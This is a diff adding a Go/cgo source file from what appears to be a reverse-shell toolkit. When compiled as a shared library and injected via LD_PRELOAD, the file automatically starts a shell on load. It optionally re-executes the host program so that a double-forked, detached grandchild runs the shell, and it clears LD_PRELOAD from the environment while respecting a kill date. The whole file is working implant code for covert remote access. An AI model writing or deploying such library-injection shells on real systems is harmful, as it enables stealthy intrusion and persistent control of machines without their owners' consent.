@@ -0,0 +1,105 @@
+//go:build cgo
+
+package main
+
+/*
+ * library_linux.go
+ * Run a shell when loaded as a library, maybe detached
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+/*
+#include <stdlib.h>
+
+char *library_path(void);
+*/
+import "C"
+
+import (
+	"cmp"
+	"context"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"time"
+	"unsafe"
+
+	"github.com/magisterquis/curlrevshell/lib/simpleshell"
+)
+
+// detachedEnvVar is set in a detached child's environment.  It must match
+// DETACHED_ENV_VAR in library_linux.c.
+const detachedEnvVar = "SIMPLESHELL_DETACHED"
+
+// selfExe is the host program, which we run again to detach.
+const selfExe = "/proc/self/exe"
+
+// startLibrary is called by a constructor in library_linux.c when we're in a
+// shared object file.  It starts a shell in a goroutine or a detached child,
+// depending on chooseDetach, and returns 0.  If we're the detached child,
+// it runs the shell itself and returns 1 when the shell's finished.  Past the
+// kill date, it does nothing.
+//
+//export startLibrary
+func startLibrary() C.int {
+	/* If we're the detached child, library_linux.c has already done the
+	forking and we just need a shell. */
+	if _, ok := os.LookupEnv(detachedEnvVar); ok {
+		os.Unsetenv(detachedEnvVar)
+		os.Unsetenv("LD_PRELOAD")
+		shell(context.Background(), "", "", nil)
+		return 1
+	}
+
+	/* No sense in making children if we're past the kill date. */
+	os.Unsetenv("LD_PRELOAD")
+	if conf, err := connConfig(""); nil == err && errors.Is(
+		conf.Allowed(time.Now()),
+		simpleshell.ErrKillDate,
+	) {
+		return 0
+	}
+
+	/* Start a shell, in the background one way or another.  If
+	detaching doesn't work, a goroutine's better than nothing. */
+	if "" != chooseDetach() && nil == detach() {
+		return 0
+	}
+	go shell(context.Background(), "", "", nil)
+	return 0
+}
+
+// chooseDetach works out whether or not to detach.  It chooses the first
+// non-empty string from the value of the environment variable named
+// DetachEnvVar and Detach.
+func chooseDetach() string { return cmp.Or(os.Getenv(DetachEnvVar), Detach) }
+
+// detach starts the host program again, with this library in LD_PRELOAD and
+// detachedEnvVar set, which makes library_linux.c double-fork and the
+// grandchild run a shell instead of the host program.
+func detach() error {
+	lp := C.library_path()
+	if nil == lp {
+		return errors.New("could not find library path")
+	}
+	defer C.free(unsafe.Pointer(lp))
+
+	cmd := exec.Command(selfExe)
+	if 0 != len(os.Args) {
+		cmd.Args = os.Args
+	}
+	cmd.Env = append(
+		os.Environ(),
+		"LD_PRELOAD="+C.GoString(lp),
+		detachedEnvVar+"=1",
+	)
+	if err := cmd.Start(); nil != err {
+		return fmt.Errorf("starting child: %w", err)
+	}
+	go cmd.Wait() /* The child exits right after its first fork. */
+
+	return nil
+}